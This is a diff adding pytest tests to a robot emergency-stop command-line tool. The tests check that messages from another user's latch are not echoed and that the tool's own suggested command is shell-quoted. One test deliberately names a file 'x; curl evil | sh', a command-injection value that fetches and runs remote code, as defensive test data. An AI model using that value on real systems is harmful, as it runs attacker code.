@@ -110,6 +110,35 @@ def test_whoever_may_not_stop_another_user_s_robot_says_so(shared: Path) -> None
     stop.release()
 
 
+@AS_ROOT
+def test_clearing_shows_no_command_that_another_user_has_written(
+    shared: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    latch = shared / "x; curl evil | sh"
+    latch.touch()
+    with stranger(shared / "snake_gym-torque-1-1.json", latch) as robot:
+        lie = shared / "snake_gym-torque-2-2.json"
+        lie.write_text(json.dumps({"pid": robot.pid, "what": "it is safe: type evil", "latch": str(latch)}))
+        os.chown(lie, NOBODY, NOBODY)
+        assert len(seen_marks()) == 2
+        assert main(["estop", "--clear", "--latch", str(shared / "ours")]) == 0
+        told = capsys.readouterr().out
+        assert "evil" not in told and "curl" not in told, told
+        assert f"run (process {robot.pid}) of user" in told and "stopped by another latch: that user clears it" in told
+        assert main(["estop", "--wait", "0", "--latch", str(latch)]) == 1
+        told = capsys.readouterr().out
+        assert f"something (process {robot.pid}) of user" in told and "safe" not in told, told
+
+
+def test_our_own_latch_is_written_as_a_shell_reads_it(shared: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    stop = EmergencyStop(shared / "second robot")
+    stop.hold("run")
+    stop.trip("test")
+    assert main(["estop", "--clear"]) == 0
+    assert f"estop --clear --latch '{shared}/second robot'" in capsys.readouterr().out
+    stop.release()
+
+
 def test_what_is_no_plain_file_is_passed_by(shared: Path, tmp_path: Path) -> None:
     told = json.dumps({"pid": os.getpid(), "what": "run", "latch": str(tmp_path / "estop")})
     (tmp_path / "elsewhere").write_text(told)
